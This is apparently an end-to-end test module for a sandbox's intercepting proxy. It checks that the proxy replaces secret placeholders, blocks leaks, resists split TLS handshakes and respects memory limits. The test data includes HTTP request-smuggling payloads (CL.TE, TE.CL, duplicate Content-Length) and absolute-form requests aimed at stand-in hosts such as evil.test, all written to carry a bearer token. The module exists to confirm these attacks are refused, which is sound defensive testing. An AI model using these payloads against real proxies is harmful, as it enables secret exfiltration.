"""The intercepting proxy's seals, from inside real VMs (issue #6): request framing the
upstream could read differently, protocol detection that timing must not fool, secrets
reflected by an upstream, placeholders in every byte of a request, `Expect: 100-continue`,
and the per-VM memory caps.

Upstreams are `tests/e2e/_upstream.py` in a network namespace this module creates (see
`veth_netns`): HTTPS on X.2 ports 443 and 8443 (api.test, free.test) and X.3 (other.test),
Python's http.server on :80. Its log holds every request, every HTTPS connection with its
SNI, and every byte each connection received ("raw"): "reached nothing" is judged there.
A guest script prints `R <name> <json>` lines; `PAUSE <name>` lines wait on stdin while the
test looks at the VM (its event log, the supervisor's memory).
"""

from __future__ import annotations

import hashlib
import json
import signal
import sqlite3
import subprocess
import sys
import time
import uuid
from collections.abc import Callable
from pathlib import Path

import pytest

from tests.conftest import matchlock_cmd
from tests.e2e.conftest import veth_netns
from tests.e2e.test_intercept import GUEST_PRELUDE, PH_RE, Upstreams, results

pytestmark = pytest.mark.e2e

HERE = Path(__file__).parent
REAL = "sk-real-" + uuid.uuid4().hex  # the host env value of TOKEN (bound to api.test)
HOLD_CONNS, HOLD_SIZE = 24, int(15.9 * (1 << 20))  # the load: 24 x 15.9 MB bodies


def run_args(up: Upstreams, *extra: str) -> list[str]:
    """The one place this module builds `matchlock run` arguments."""
    return ["run", "-i", "--image", "debian:test",
            "--allow-host", "api.test,free.test",
            "--add-host", f"api.test:{up.api}", "--add-host", f"free.test:{up.api}",
            "--add-host", f"other.test:{up.other}",
            "--secret", "TOKEN@api.test",
            # the upstreams sit in 198.18/15 (benchmarking): open exactly their two addresses
            "--allow-private", f"{up.api},{up.other}", *extra]


@pytest.fixture(scope="module")
def upstreams(tmp_path_factory):
    work = tmp_path_factory.mktemp("sealing")
    with veth_netns((2, 3)) as (ns, net):
        up = Upstreams(ns, net, work)
        # Upstreams' PKI names other.test too: a ClientHello that slipped through raw to
        # X.2:8443 would complete its handshake there, and show up in the log.
        up.log.touch()
        cfg = {"log": str(up.log), "cert": str(work / "up-leaf.pem"),
               "key": str(work / "up-key.pem"), "https": [up.api, up.other],
               "https_ports": [443, 8443], "http": [up.api], "raw": [], "udp": [],
               "ready": str(work / "ready")}
        (work / "cfg.json").write_text(json.dumps(cfg))
        proc = subprocess.Popen(["ip", "netns", "exec", ns, sys.executable,
                                 str(HERE / "_upstream.py"), str(work / "cfg.json")],
                                stderr=open(work / "upstream.err", "wb"))  # noqa: SIM115
        try:
            deadline = time.monotonic() + 15
            while not (work / "ready").exists():
                assert proc.poll() is None, (work / "upstream.err").read_text()
                assert time.monotonic() < deadline, "upstream server did not start"
                time.sleep(0.05)
            yield up
        finally:
            proc.send_signal(signal.SIGTERM)
            try:
                proc.wait(5)
            except subprocess.TimeoutExpired:
                proc.kill()
                proc.wait()


@pytest.fixture(scope="module")
def env(ml_env, upstreams, debian_image):
    return {**ml_env, "MATCHLOCK_UPSTREAM_CA": str(upstreams.ca), "TOKEN": REAL}


def interactive_run(args: list[str], env: dict, on_pause: Callable[[str, str], None],
                    work: Path, timeout: float = 600) -> tuple[str, str]:
    """`matchlock run -i ...`: at each `PAUSE <name>` the guest prints, on_pause(name,
    vm_id) runs while the VM is up, then the guest is let go. Returns (stdout, stderr)."""
    err_path = work / "stderr"
    with open(err_path, "wb") as err:
        p = subprocess.Popen([*matchlock_cmd(), *args], env=env, stdin=subprocess.PIPE,
                             stdout=subprocess.PIPE, stderr=err)
    assert p.stdin is not None and p.stdout is not None
    lines: list[str] = []
    t0 = time.monotonic()
    try:
        for raw in p.stdout:
            line = raw.decode(errors="replace")
            lines.append(line)
            if line.startswith("PAUSE "):
                on_pause(line.split()[1], results("".join(lines))["hostname"])
                p.stdin.write(b"\n")
                p.stdin.flush()
            assert time.monotonic() - t0 < timeout, "guest script timed out"
        p.stdin.close()
        rc = p.wait(60)
    finally:
        if p.poll() is None:
            p.kill()
            p.wait()
    out, err_text = "".join(lines), err_path.read_text(errors="replace")
    assert rc == 0, out[-4000:] + err_text[-3000:]
    return out, err_text


def net_events(state_home: Path, vm_id: str) -> list[dict]:
    path = state_home / "vms" / vm_id / "logs" / "net.jsonl"
    if not path.exists():  # written on the first event
        return []
    return [json.loads(line) for line in path.read_text().splitlines()]


SEALING_SCRIPT = GUEST_PRELUDE + r'''
API = sys.argv[1]
T = os.environ["TOKEN"]
TB = T.encode()
R("hostname", socket.gethostname())
R("ph", T)
def exchange(host, port, data, sni=None, pause=0.0, split=None, timeout=30):
    """Raw bytes over TLS (system trust store, so our CA) or plain TCP; the ClientHello can
    be delayed and split after `split` bytes. Returns what came back until the close."""
    sock = socket.create_connection((host, port), timeout=timeout)
    try:
        if sni is None:
            sock.sendall(data)
            out = b""
            while True:
                d = sock.recv(65536)
                if not d:
                    return out.decode("latin-1")
                out += d
        if pause and not split:
            time.sleep(pause)
        inc, outb = ssl.MemoryBIO(), ssl.MemoryBIO()
        obj = ssl.create_default_context().wrap_bio(inc, outb, server_hostname=sni)
        first = True
        while True:
            try:
                obj.do_handshake()
                break
            except ssl.SSLWantReadError:
                d = outb.read()
                if first and split:
                    sock.sendall(d[:split])
                    time.sleep(pause)
                    sock.sendall(d[split:])
                else:
                    sock.sendall(d)
                first = False
                got = sock.recv(65536)
                if not got:
                    return "closed during the handshake"
                inc.write(got)
        obj.write(data)
        sock.sendall(outb.read())
        resp = b""
        while True:
            try:
                chunk = obj.read(65536)
            except ssl.SSLWantReadError:
                got = sock.recv(65536)
                if not got:
                    break
                inc.write(got)
                continue
            except (ssl.SSLZeroReturnError, ssl.SSLEOFError):
                break
            if not chunk:
                break
            resp += chunk
        return resp.decode("latin-1")
    except OSError as e:
        return "error " + repr(e)
    finally:
        sock.close()
def code(resp):
    return resp.split(" ", 2)[1] if resp.startswith("HTTP/1.1 ") else resp[:200]

# 5. framing the upstream could read differently
AUTH = b"Authorization: Bearer " + TB + b"\r\n"
R("abs_evil", code(exchange("api.test", 443, b"GET https://evil.test/abs-evil HTTP/1.1\r\n"
                            b"Host: api.test\r\n" + AUTH + b"\r\n", sni="api.test")))
R("abs_ok", code(exchange("api.test", 443, b"GET https://api.test/abs-ok?k=" + TB +
                          b" HTTP/1.1\r\nHost: api.test\r\nConnection: close\r\n\r\n",
                          sni="api.test")))
R("abs_plain", code(exchange("api.test", 80, b"GET http://other.test/abs-plain HTTP/1.1\r\n"
                             b"Host: api.test\r\n\r\n")))
R("abs_plain_ok", code(exchange("api.test", 80, b"GET http://api.test/abs-plain-ok HTTP/1.1"
                                b"\r\nHost: api.test\r\nConnection: close\r\n\r\n")))
SMUGGLED = b"GET /smuggled HTTP/1.1\r\nHost: api.test\r\n" + AUTH + b"\r\n"
for name, framing in (
        ("clte", b"Content-Length: %d\r\nTransfer-Encoding: chunked\r\n" % (5 + len(SMUGGLED))),
        ("tecl", b"Transfer-Encoding: chunked\r\nContent-Length: 5\r\n"),
        ("cl_dup", b"Content-Length: 5\r\nContent-Length: 5\r\n")):
    R(name, code(exchange("api.test", 443, b"POST /" + name.encode() + b" HTTP/1.1\r\n"
                          b"Host: api.test\r\n" + framing + b"\r\n0\r\n\r\n" + SMUGGLED,
                          sni="api.test")))
R("clte_ok", code(exchange("api.test", 443, b"POST /clte-ok HTTP/1.1\r\nHost: api.test\r\n"
                           b"Content-Length: 5\r\nConnection: close\r\n\r\nhello",
                           sni="api.test")))

# 6. a late or split ClientHello on 8443 (not 80/443), straight to the address
def late(host, split):
    req = (b"GET /late-" + host.encode() + b"?k=" + TB + b" HTTP/1.1\r\nHost: " +
           host.encode() + b"\r\nConnection: close\r\n\r\n")
    return exchange(API, 8443, req, sni=host, pause=1.0, split=split)
for host in ("other.test", "api.test"):
    for split in (None, 1):
        r = late(host, split)
        R("late_%s_%s" % (host.split(".")[0], split), {"code": code(r), "body": r[-300:]})

# 7. an upstream that reflects the request
ECHO = "-H 'Authorization: Bearer %s' -H 'Content-Type: application/json' -d '{\"t\": \"%s\"}'"
for route, flags in (("echo", ""), ("echo-chunked", ""), ("echo-gzip", "--compressed")):
    rc, out = sh("curl -sS -D - %s %s https://api.test/%s" % (flags, ECHO % (T, T), route))
    R(route, {"rc": rc, "out": out})
try:
    r = urllib.request.urlopen(urllib.request.Request(
        "https://api.test/echo?k=" + T, headers={"X-Key": T}), timeout=20)
    R("echo_py", {"headers": str(r.headers), "body": r.read().decode("latin-1")})
except Exception as e:
    R("echo_py", repr(e))

# 8. placeholders in every part of a request towards free.test (allowed, TOKEN not bound)
open("/tmp/ph.bin", "wb").write(os.urandom(100000) + TB + os.urandom(1000))
open("/tmp/clean.bin", "wb").write(os.urandom(100000))
for kind in ("ph", "clean"):
    R(kind + "_octet", curl("-H 'Content-Type: application/octet-stream' "
                            "--data-binary @/tmp/%s.bin https://free.test/%s-octet" % (kind, kind)))
    R(kind + "_multi", curl("-F 'f=@/tmp/%s.bin;type=application/octet-stream' "
                            "https://free.test/%s-multi" % (kind, kind)))
    R(kind + "_hname", curl("-H 'X-%s: 1' https://free.test/%s-hname"
                            % (T if kind == "ph" else "plain", kind)))

# defect: a 2 MB upload with Expect: 100-continue to the secret's host
line = ("token=" + T + "\n").encode()
open("/tmp/up.txt", "wb").write(line * (2 * 1024 * 1024 // len(line) + 1))
for name, expect in (("expect", "100-continue"), ("no_expect", "")):
    rc, out = sh("curl -v -sS --fail -H 'Expect: %s' -H 'Content-Type: text/plain' "
                 "--data-binary @/tmp/up.txt https://api.test/upload" % expect, 120)
    R(name, {"rc": rc, "out": out[-2500:]})
print("PAUSE events", flush=True)
sys.stdin.readline()
'''


def test_framing_detection_reflection_and_scanning(env, state_home, upstreams, tmp_path):
    """One boot: every check with its positive control; judged by the upstream's own log."""
    up = upstreams
    mark = up.mark()
    seen: dict = {}

    def on_pause(name: str, vm_id: str) -> None:
        seen[name] = net_events(state_home, vm_id)

    out, err = interactive_run(run_args(up, "--", "python3", "-c", SEALING_SCRIPT, up.api),
                               env, on_pause, tmp_path)
    r = results(out)
    ph = r["ph"]
    assert PH_RE.fullmatch(ph)
    reqs = up.records("req", mark)
    by_target: dict[str, dict] = {}
    for q in reqs:  # the first request per path
        by_target.setdefault(q["target"].split("?")[0], q)
    raws = [x["data"] for x in up.records("raw", mark)]
    conns = up.records("conn", mark)

    # 5. absolute-form and CL+TE: 400 and nothing reached; the controls went out origin-form
    for k in ("abs_evil", "abs_plain", "clte", "tecl", "cl_dup"):
        assert r[k] == "400", (k, r[k])
    assert r["abs_ok"] == "200" and r["abs_plain_ok"] == "200" and r["clte_ok"] == "200", r
    assert by_target["/abs-ok"]["target"] == f"/abs-ok?k={REAL}"
    assert "/abs-plain-ok" in by_target and by_target["/clte-ok"]["body"] == "hello"
    for t in ("/abs-evil", "/abs-plain", "/clte", "/tecl", "/cl_dup", "/smuggled"):
        assert t not in by_target, t
    assert not [q for q in reqs if not q["target"].startswith("/")], reqs  # origin-form only
    for data in raws:
        for needle in ("evil.test", "other.test", "/smuggled", "POST /clte ", "POST /tecl",
                       "POST /cl_dup", "SANDBOX_SECRET_"):
            assert needle not in data, (needle, data[:300])

    # 6. late and split ClientHellos on 8443 are judged by SNI
    for split in ("None", "1"):
        blocked, allowed = r[f"late_other_{split}"], r[f"late_api_{split}"]
        assert blocked["code"] == "403" and "other.test" in blocked["body"], blocked
        assert allowed["code"] == "200", allowed
        assert f"hello from {up.api} /late-api.test" in allowed["body"], allowed
    late = [q for q in reqs if q["target"].startswith("/late-")]
    assert {q["target"] for q in late} == {f"/late-api.test?k={REAL}"} and len(late) == 2
    assert all(q["server"] == f"{up.api}:8443" for q in late), late  # intercepted, on 8443
    assert not [c for c in conns if c.get("sni") == "other.test"], conns
    assert not [c for c in conns if c["dst"].startswith(up.other)], conns

    # 7. reflected: the upstream got the real value; the guest only ever saw the placeholder
    for route in ("/echo", "/echo-chunked", "/echo-gzip"):
        q = by_target[route]
        assert q["headers"]["authorization"] == f"Bearer {REAL}" and REAL in q["body"]
        assert q["headers"]["accept-encoding"] == "identity", q["headers"]
    for k in ("echo", "echo-chunked", "echo-gzip"):
        o = r[k]["out"]
        assert r[k]["rc"] == 0 and REAL not in o, (k, o[-500:])
        assert f"x-echo-auth: Bearer {ph}\n" in o, (k, o[:500])
        doc = json.loads(o[o.index("{"):])
        assert doc["headers"]["authorization"] == f"Bearer {ph}", doc
        assert json.loads(doc["body"]) == {"t": ph}, doc
    assert REAL not in json.dumps(r["echo_py"]) and ph in r["echo_py"]["body"]
    assert REAL not in out and REAL not in err

    # 8. placeholders in octet-stream, multipart and header names towards free.test
    for part in ("octet", "multi", "hname"):
        blocked, clean = r[f"ph_{part}"], r[f"clean_{part}"]
        assert blocked["code"] == "403" and "TOKEN" in blocked["body"], (part, blocked)
        assert clean["code"] == "200", (part, clean)
        assert f"/clean-{part}" in by_target and f"/ph-{part}" not in by_target
    leaks = [e for e in seen["events"] if e["kind"] == "secret_leak_blocked"]
    assert {e["host"] for e in leaks} == {"free.test"} and len(leaks) == 3, leaks

    # 100-continue: a 2 MB upload succeeds, and the upstream got the real value
    line = f"token={ph}\n".encode()
    sent = line * (2 * 1024 * 1024 // len(line) + 1)
    want = sent.replace(ph.encode(), REAL.encode())
    uploads = [q for q in reqs if q["target"] == "/upload"]
    assert len(uploads) == 2, uploads
    for name, q in zip(("expect", "no_expect"), uploads, strict=True):
        assert r[name]["rc"] == 0, r[name]
        assert f"{hashlib.sha256(want).hexdigest()} {len(want)}" in r[name]["out"], r[name]
        assert q["length"] == len(want) and q["body"].startswith(f"token={REAL}\n")
        assert "expect" not in q["headers"], q["headers"]
    assert "< HTTP/1.1 100 Continue" in r["expect"]["out"], r["expect"]["out"]

    # the event log: refusals said why; no real value anywhere in it
    blocked = [e for e in seen["events"] if e["kind"] == "blocked"]
    assert len([e for e in blocked if "bad request" in e["detail"]]) >= 5, blocked
    assert [e for e in blocked if e["fields"].get("sni") == "other.test"], blocked
    assert REAL not in json.dumps(seen["events"])


MEMORY_SCRIPT = GUEST_PRELUDE + r'''
N, SIZE = int(sys.argv[1]), int(sys.argv[2])
T = os.environ["TOKEN"]
R("hostname", socket.gethostname())
R("ph", T)
print("PAUSE base", flush=True)
sys.stdin.readline()
body = (("k=" + T + ";").encode() * (SIZE // 40 + 1))[:SIZE]
ctx = ssl.create_default_context()
socks = []
t0 = time.monotonic()
for i in range(N):  # every body but its last byte: the proxy holds or streams each one
    s = ctx.wrap_socket(socket.create_connection(("api.test", 443), timeout=300),
                        server_hostname="api.test")
    s.sendall(b"POST /hold-%d HTTP/1.1\r\nHost: api.test\r\nContent-Type: text/plain\r\n"
              b"Content-Length: %d\r\n\r\n" % (i, SIZE))
    s.sendall(body[:-1])
    socks.append(s)
R("sent_s", time.monotonic() - t0)
print("PAUSE holding", flush=True)
sys.stdin.readline()
for s in socks:
    s.sendall(body[-1:])
codes = []
for s in socks:
    resp = b""
    while b"\r\n\r\n" not in resp:
        d = s.recv(65536)
        if not d:
            break
        resp += d
    codes.append(resp.split(b" ", 2)[1].decode() if resp else "closed")
    s.close()
R("codes", codes)
'''


def _rss_kib(pid: int) -> dict[str, int]:
    out = {}
    for line in Path(f"/proc/{pid}/status").read_text().splitlines():
        if line.startswith(("VmRSS:", "VmHWM:")):
            out[line.split(":")[0]] = int(line.split()[1])
    return out


def _owner_pid(state_home: Path, vm_id: str) -> int:
    """The process that owns the VM (and its network stack), as the state DB records it."""
    (db,) = list(state_home.rglob("state.db"))
    with sqlite3.connect(db) as c:
        (pid,) = c.execute("SELECT pid FROM vms WHERE id = ?", (vm_id,)).fetchone()
    assert pid > 0
    return pid


def test_memory_caps_hold_under_24_large_bodies(env, state_home, upstreams, tmp_path):
    """24 connections each holding a 15.9 MB body with a placeholder towards the secret's
    host: the VM's buffer budget (64 MiB) holds whole what fits, the rest streams."""
    up = upstreams
    mark = up.mark()
    rss: dict[str, dict[str, int]] = {}
    events: list[dict] = []

    def on_pause(name: str, vm_id: str) -> None:
        rss[name] = _rss_kib(_owner_pid(state_home, vm_id))
        if name == "holding":
            events.extend(net_events(state_home, vm_id))

    out, _ = interactive_run(
        run_args(up, "--memory", "1024", "--", "python3", "-c", MEMORY_SCRIPT,
                 str(HOLD_CONNS), str(HOLD_SIZE)), env, on_pause, tmp_path, timeout=900)
    r = results(out)
    grown = (rss["holding"]["VmRSS"] - rss["base"]["VmRSS"]) / 1024
    print(f"\nsupervisor RSS: {rss['base']['VmRSS'] / 1024:.0f} MiB before, "
          f"{rss['holding']['VmRSS'] / 1024:.0f} MiB holding {HOLD_CONNS} x "
          f"{HOLD_SIZE / (1 << 20):.1f} MiB bodies (+{grown:.0f} MiB, peak "
          f"{rss['holding']['VmHWM'] / 1024:.0f} MiB); guest sent them in {r['sent_s']:.0f} s")
    assert r["codes"] == ["200"] * HOLD_CONNS, r["codes"]
    streamed = [e for e in events if e["kind"] == "buffer_limit"]
    # At most 4 x 15.9 MiB fit in 64 MiB at once; a held body forwarded early frees its
    # share for a connection still sending, so over the run a few more may be held (5
    # seen). The RSS bound below is what checks concurrency.
    assert len(streamed) >= HOLD_CONNS // 2, streamed
    assert all("budget" in e["detail"] for e in streamed), streamed
    assert grown < 64 + 48, rss  # the budget plus per-connection buffers, not 24 x 16 MiB
    # every body arrived whole, placeholders replaced by the real value (held or streamed)
    ph = r["ph"]
    want = ((f"k={ph};").encode() * (HOLD_SIZE // 40 + 1))[:HOLD_SIZE]
    want = want.replace(ph.encode(), REAL.encode())
    reqs = [q for q in up.records("req", mark) if q["target"].startswith("/hold-")]
    assert len(reqs) == HOLD_CONNS
    assert {(q["length"], q["sha256"]) for q in reqs} == \
        {(len(want), hashlib.sha256(want).hexdigest())}
